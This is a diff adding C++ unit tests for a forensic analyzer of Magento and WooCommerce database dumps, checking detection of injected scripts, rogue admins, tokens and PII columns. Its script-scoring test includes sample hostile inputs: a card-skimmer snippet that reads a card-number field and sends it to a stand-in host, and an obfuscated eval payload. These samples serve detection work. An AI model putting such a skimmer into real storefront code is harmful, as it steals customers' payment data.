@@ -1,0 +1,212 @@
+// The analyzer end to end over hand-written dumps built from the real Magento and
+// WordPress/WooCommerce table definitions (fuzz/corpus/storedb_dump/*.sql): findings,
+// benign look-alikes left alone, PII map, customers and orders.
+#include <gmock/gmock.h>
+#include <gtest/gtest.h>
+
+#include "storedb/classify.h"
+#include "storedb/storedb.h"
+#include "support/testing.h"
+
+namespace tq::storedb {
+namespace {
+
+using ::testing::Contains;
+using ::testing::UnorderedElementsAre;
+
+struct Fixture {
+  tq::testing::TempDir dir;
+  std::unique_ptr<Case> c;
+  EvidenceItem item;
+  AnalyzeSummary summary;
+};
+
+std::unique_ptr<Fixture> Analyze(const std::string& corpus_file, AnalyzeOptions opt = {}) {
+  auto f = std::make_unique<Fixture>();
+  CaseInfo info;
+  info.name = "t";
+  Result<std::unique_ptr<Case>> c = Case::Create(f->dir / "case", info);
+  EXPECT_TRUE(c.ok()) << c.status().ToString();
+  f->c = std::move(*c);
+  std::string path = std::string(TQ_SOURCE_DIR) + "/fuzz/corpus/storedb_dump/" + corpus_file;
+  Result<EvidenceItem> item = StoreFileAsEvidence(*f->c, path, path, "test");
+  EXPECT_TRUE(item.ok()) << item.status().ToString();
+  f->item = *item;
+  Result<AnalyzeSummary> s = AnalyzeDumpEvidence(*f->c, f->item, opt);
+  EXPECT_TRUE(s.ok()) << s.status().ToString();
+  if (s.ok()) f->summary = *s;
+  return f;
+}
+
+std::vector<std::string> Query(Db& db, const std::string& sql) {
+  std::vector<std::string> out;
+  Result<Stmt> st = db.Prepare(sql);
+  EXPECT_TRUE(st.ok()) << st.status().ToString();
+  for (;;) {
+    Result<bool> r = st->Step();
+    if (!r.ok() || !*r) break;
+    std::string row;
+    for (int i = 0; i < st->ColumnCount(); ++i) {
+      if (i) row.push_back('|');
+      row.append(st->Text(i));
+    }
+    out.push_back(row);
+  }
+  return out;
+}
+
+TEST(StoreDbAnalyzer, MagentoFindingsWithInferredWindow) {
+  auto f = Analyze("magento_small.sql");
+  Db& db = f->c->db();
+  EXPECT_EQ(f->summary.platform, "magento");
+  EXPECT_EQ(f->summary.table_prefix, "mg_");
+  EXPECT_EQ(f->summary.stats.problems, 0u);
+  EXPECT_THAT(Query(db,
+                    "SELECT json_extract(detail,'$.table'),json_extract(detail,'$.pk'),"
+                    "json_extract(detail,'$.column') FROM findings WHERE "
+                    "kind='storedb.injected_script'"),
+              UnorderedElementsAre("mg_core_config_data|{\"config_id\":4}|value",
+                                   "mg_core_config_data|{\"config_id\":6}|value",
+                                   "mg_cms_block|{\"block_id\":3}|content"));
+  // The rogue admin only: not the old admins, not the one created legitimately this week.
+  EXPECT_THAT(Query(db,
+                    "SELECT json_extract(detail,'$.pk') FROM findings WHERE "
+                    "kind='storedb.rogue_admin'"),
+              UnorderedElementsAre("{\"user_id\":4}"));
+  std::vector<std::string> tokens =
+      Query(db,
+            "SELECT json_extract(detail,'$.table')||json_extract(detail,'$.pk')||' '||"
+            "json_extract(detail,'$.kind') FROM findings WHERE kind='storedb.token'");
+  EXPECT_THAT(tokens, Contains("mg_oauth_token{\"entity_id\":2} admin_token"));
+  EXPECT_THAT(tokens, Contains("mg_integration{\"integration_id\":1} integration"));
+  EXPECT_THAT(tokens, ::testing::Not(Contains("mg_oauth_token{\"entity_id\":4} admin_token")));
+  EXPECT_THAT(tokens, ::testing::Not(Contains("mg_oauth_token{\"entity_id\":3} customer_token")));
+  EXPECT_THAT(Query(db,
+                    "SELECT json_extract(detail,'$.path') FROM findings WHERE "
+                    "kind='storedb.config_change' ORDER BY 1"),
+              Contains("payment/braintree/active"));
+  // Each finding names the evidence, line and byte offset of its row.
+  std::vector<std::string> off =
+      Query(db, "SELECT byte_offset FROM findings WHERE json_extract(detail,'$.pk.config_id')=4");
+  ASSERT_EQ(off.size(), 1u);
+  std::string dump = tq::testing::ReadFile(std::string(TQ_SOURCE_DIR) +
+                                           "/fuzz/corpus/storedb_dump/magento_small.sql");
+  EXPECT_EQ(dump.substr(std::stoul(off[0]), 35), "(4,'default',0,'design/footer/absol");
+}
+
+TEST(StoreDbAnalyzer, MagentoCustomersOrdersAndPiiMap) {
+  auto f = Analyze("magento_small.sql");
+  Db& db = f->c->db();
+  EXPECT_THAT(Query(db,
+                    "SELECT customer_id,email,name,country,region FROM storedb_customer "
+                    "ORDER BY email"),
+              UnorderedElementsAre("|card.guest@example.com|Carla Guest|US|California",
+                                   "|guest.buyer@example.com|Guest Buyer|FR|Île-de-France",
+                                   "1|lena.vogel@example.net|Lena Vogel|DE|Bayern",
+                                   "2|tom.o'brien@example.org|Tom O'Brien|US|California"));
+  EXPECT_THAT(Query(db,
+                    "SELECT increment_id,customer_id,country,payment_method,card_payment,"
+                    "cc_last4,created_at FROM storedb_order ORDER BY increment_id"),
+              ::testing::ElementsAre("000000101|1|DE|braintree|1||1760266800000000",
+                                     "000000102||FR|checkmo|0||1760347800000000",
+                                     "000000103||US|payflowpro|1|1111|1760460300000000"));
+  std::vector<std::string> pii =
+      Query(db,
+            "SELECT table_name||'.'||column_name||'='||category||'/'||source FROM "
+            "storedb_pii_column");
+  for (const char* want :
+       {"mg_customer_entity.email=email/schema", "mg_customer_entity.dob=date_of_birth/schema",
+        "mg_customer_entity.password_hash=password_hash/schema",
+        "mg_customer_address_entity.telephone=phone/schema",
+        "mg_sales_order.remote_ip=ip_address/schema",
+        "mg_sales_order_payment.cc_last_4=payment_card/schema",
+        "mg_custom_leads.contact=email/content", "mg_custom_leads.tel=phone/content",
+        "mg_sys_cache_store.v=payment_card/content"})
+    EXPECT_THAT(pii, Contains(want));
+  EXPECT_THAT(Query(db, "SELECT row_count FROM storedb_table WHERE table_name='mg_sales_order'"),
+              ::testing::ElementsAre("3"));
+}
+
+TEST(StoreDbAnalyzer, RerunRefreshesWithoutDuplicates) {
+  auto f = Analyze("magento_small.sql");
+  Db& db = f->c->db();
+  std::vector<std::string> before = Query(db, "SELECT count(*) FROM findings");
+  std::vector<std::string> cust = Query(db, "SELECT count(*) FROM storedb_customer");
+  Result<AnalyzeSummary> again = AnalyzeDumpEvidence(*f->c, f->item, {});
+  ASSERT_TRUE(again.ok());
+  EXPECT_EQ(Query(db, "SELECT count(*) FROM findings"), before);
+  EXPECT_EQ(Query(db, "SELECT count(*) FROM storedb_customer"), cust);
+}
+
+TEST(StoreDbClassify, CanonicalTableNames) {
+  struct Case {
+    const char* in;
+    const char* platform;
+    const char* name;
+    const char* prefix;
+  } cases[] = {
+      {"customer_entity", "magento", "customer_entity", ""},
+      {"xyz_customer_entity", "magento", "customer_entity", "xyz_"},
+      {"m2customer_address_entity", "magento", "customer_address_entity", "m2"},
+      {"wp2_users", "woocommerce", "users", "wp2_"},
+      {"wp_2_posts", "woocommerce", "posts", "wp_2_"},
+      {"wp_wc_orders", "woocommerce", "wc_orders", "wp_"},
+      {"users", "", "", ""},
+      {"my_custom_table", "", "", ""},
+  };
+  for (const auto& c : cases) {
+    CanonicalTable t = CanonicalTableName(c.in);
+    EXPECT_EQ(t.platform, c.platform) << c.in;
+    EXPECT_EQ(t.name, c.name) << c.in;
+    EXPECT_EQ(t.prefix, c.prefix) << c.in;
+  }
+}
+
+TEST(StoreDbClassify, ScriptScores) {
+  std::vector<std::string> own = {"shop.example.test"};
+  struct Case {
+    const char* content;
+    bool flagged;
+  } cases[] = {
+      {"<script async src=\"https://www.googletagmanager.com/gtag/js?id=G-1\"></script>", false},
+      {"<script src=\"https://shop.example.test/static/app.js\"></script>", false},
+      {"<p>Hello</p>", false},
+      {"<script src=\"https://jquery-cdn.top/min.js\"></script>", true},
+      {"<script>eval(atob('ZG9jdW1lbnQ='))</script>", true},
+      {"<script>document.querySelector('#cc_number');new Image().src='//x.top/?'+v</script>", true},
+      {"<script src=\"https://www.google-analytics.com.evil.top/a.js\"></script>", true},
+  };
+  for (const auto& c : cases)
+    EXPECT_EQ(ScoreStoredScript(c.content, own).score >= kInjectedScriptThreshold, c.flagged)
+        << c.content;
+}
+
+TEST(StoreDbClassify, ContentShapes) {
+  EXPECT_TRUE(LuhnValid("4111111111111111"));
+  EXPECT_FALSE(LuhnValid("4111111111111112"));
+  EXPECT_TRUE(LooksLikeEmail("a.b@example.com"));
+  EXPECT_FALSE(LooksLikeEmail("not an email"));
+  EXPECT_TRUE(LooksLikePhone("+49 30 901820"));
+  EXPECT_FALSE(LooksLikePhone("000000123"));
+  EXPECT_TRUE(LooksLikeIpAddress("203.0.113.7"));
+}
+
+TEST(StoreDbPiiMap, BuiltinMapLoadsAndBadLinesFail) {
+  EXPECT_GT(BuiltinPiiMap().size(), 200u);
+  Result<std::vector<PiiMapEntry>> bad = ParsePiiMap("magento\tt\tc\tshoe_size\n", "m.tsv");
+  ASSERT_FALSE(bad.ok());
+  EXPECT_EQ(bad.status().ToString(), "m.tsv:1: unknown category 'shoe_size'");
+}
+
+TEST(StoreDbMysql, DsnParsing) {
+  Result<MysqlTarget> t = ParseMysqlDsn("host=db.local; port=3307;user=ro;database=shop");
+  ASSERT_TRUE(t.ok());
+  EXPECT_EQ(t->host, "db.local");
+  EXPECT_EQ(t->port, 3307u);
+  EXPECT_FALSE(ParseMysqlDsn("host=x;user=a;database=b;password=secret").ok());
+  EXPECT_FALSE(ParseMysqlDsn("host=x;port=99999;user=a;database=b").ok());
+  EXPECT_FALSE(ParseMysqlDsn("host=x;database=b").ok());
+}
+
+}  // namespace
+}  // namespace tq::storedb
